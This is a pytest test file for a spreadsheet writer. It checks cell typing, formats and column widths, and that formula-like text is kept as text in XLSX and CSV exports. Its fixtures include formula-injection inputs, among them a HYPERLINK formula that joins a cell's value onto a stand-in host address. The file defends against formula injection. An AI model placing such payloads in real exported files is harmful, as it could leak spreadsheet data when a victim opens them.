"""The one XLSX writer (voorsprong.spreadsheets): typed cells, a frozen header, sized columns, and text
that a spreadsheet would run as a formula kept as text, in the workbooks and the CSV files alike."""

import csv
import datetime
import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from reporting.documents import render_report
from tests.test_documents import SAMPLE
from voorsprong.spreadsheets import (
    DATE,
    MONEY,
    TENTHS,
    WHOLE,
    Column,
    Sheet,
    csv_cell,
    write_csv,
    write_workbook,
)

FORMULAS = ['=HYPERLINK("http://x"&A1,"y")', "@SUM(1)", "+1", "-1", "\tx", "\rx"]


def read(content: bytes):
    return load_workbook(io.BytesIO(content)).worksheets


def test_formula_like_text_stays_text_and_numbers_stay_numbers():
    rows = [(text, Decimal("-1.50"), -1) for text in FORMULAS]
    content = write_workbook(
        [Sheet("Tekst", [Column("Tekst"), Column("Bedrag", MONEY), Column("Aantal")], rows)]
    )
    (sheet,) = read(content)
    cells = list(sheet.iter_rows(min_row=2))
    assert [row[0].value for row in cells] == FORMULAS
    for text, amount, count in cells:
        assert text.data_type == "s" and text.quotePrefix  # text, and still text once edited in Excel
        assert amount.data_type == "n" and amount.value == -1.5 and amount.number_format == MONEY
        assert count.data_type == "n" and count.value == -1
    xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere in the file


def test_plain_text_is_not_marked():
    (sheet,) = read(
        write_workbook([Sheet("Tekst", [Column("Tekst")], [("Voorsprong in leren",), ("1-2-3",)])])
    )
    assert [cell.quotePrefix for (cell,) in sheet.iter_rows(min_row=2)] == [False, False]


def test_cells_are_typed_with_their_display_formats():
    day = datetime.date(2025, 11, 26)
    columns = [
        Column("Traject"),
        Column("Begin"),
        Column("Bedrijven", WHOLE),
        Column("Budget (euro)", MONEY),
        Column("Aandeel (%)", TENTHS),
        Column("Leeg"),
    ]
    rows = [("Voorsprong in leren", day, 151, Decimal("6722000.00"), Decimal("61.5"), None)]
    (sheet,) = read(write_workbook([Sheet("Cijfers", columns, rows)]))
    header, values = list(sheet.iter_rows())
    assert [cell.value for cell in header] == [column.header for column in columns]
    assert all(cell.font.bold for cell in header)
    assert sheet.freeze_panes == "A2"
    name, begin, companies, money, share, empty = values
    assert (name.value, name.data_type) == ("Voorsprong in leren", "s")
    assert begin.is_date and begin.value.date() == day and begin.number_format == DATE
    assert (companies.value, companies.number_format) == (151, WHOLE)
    assert (money.value, money.number_format) == (6722000, MONEY)
    assert (share.value, share.number_format) == (61.5, TENTHS)
    assert empty.value is None
    # Wide enough for what Excel shows: "6.722.000,00" and the longest header.
    assert sheet.column_dimensions["D"].width >= len("6.722.000,00")
    assert sheet.column_dimensions["A"].width >= len("Voorsprong in leren")


def test_characters_a_workbook_cannot_hold_are_left_out():
    (sheet,) = read(write_workbook([Sheet("Tekst", [Column("Tekst")], [("a\x00b\x1bc",)])]))
    assert sheet["A2"].value == "abc"


def test_a_row_with_too_many_cells_is_refused():
    with pytest.raises(ValueError, match="row 2 has 2 cells for 1 columns"):
        write_workbook([Sheet("Tekst", [Column("Tekst")], [("a", "b")])])


def test_a_csv_cell_that_starts_like_a_formula_gets_an_apostrophe():
    assert [csv_cell(text) for text in FORMULAS] == [f"'{text}" for text in FORMULAS]
    assert csv_cell("Voorsprong in leren") == "Voorsprong in leren" and csv_cell("") == ""


def test_a_csv_cell_writes_numbers_dates_and_nothing_as_a_belgian_spreadsheet_reads_them():
    # A negative number is a number, not a formula: it keeps its minus sign unmarked.
    assert [csv_cell(value) for value in (Decimal("-1.50"), -3, 2.5, Decimal("1234567.89"))] == [
        "-1,50",
        "-3",
        "2,5",
        "1234567,89",
    ]
    assert csv_cell(datetime.date(2025, 11, 26)) == "26/11/2025"
    assert csv_cell(datetime.datetime(2025, 11, 26, 23, 59)) == "26/11/2025"
    assert (csv_cell(None), csv_cell(True), csv_cell(False)) == ("", "ja", "nee")


def test_the_csv_writer_puts_every_text_cell_through_the_rule():
    content = write_csv(["Naam", "Bedrag"], [[text, Decimal("-1.5")] for text in FORMULAS])
    assert content.startswith("\ufeff".encode())  # Excel reads the file as UTF-8
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows == [["Naam", "Bedrag"], *([f"'{text}", "-1,5"] for text in FORMULAS)]


# -- the workbooks and CSV files that use it -----------------------------------------------------------
HOSTILE = {
    **SAMPLE,
    "initiatives": [{"title": '=HYPERLINK("http://x"&A1,"y")', "text": "@SUM(1)"}],
}


def test_the_answers_workbook_keeps_typed_text_as_text():
    sheets = {sheet.title: sheet for sheet in read(render_report(HOSTILE, "xlsx"))}
    title, text = next(sheets["8 Initiatieven"].iter_rows(min_row=2))
    assert (title.value, text.value) == ('=HYPERLINK("http://x"&A1,"y")', "@SUM(1)")
    assert title.data_type == text.data_type == "s" and title.quotePrefix and text.quotePrefix
    assert sheets["1 Deelnemers"]["D2"].value == 151 and sheets["1 Deelnemers"]["C2"].is_date


def test_the_answers_csv_keeps_typed_text_as_text():
    content = render_report(HOSTILE, "csv").decode("utf-8-sig")
    values = {row[2]: row[3] for row in csv.reader(io.StringIO(content), delimiter=";")}
    assert values["initiatives.1.title"] == '\'=HYPERLINK("http://x"&A1,"y")'
    assert values["initiatives.1.text"] == "'@SUM(1)"
    assert values["funding.total"] != "" and not values["funding.total"].startswith("'")
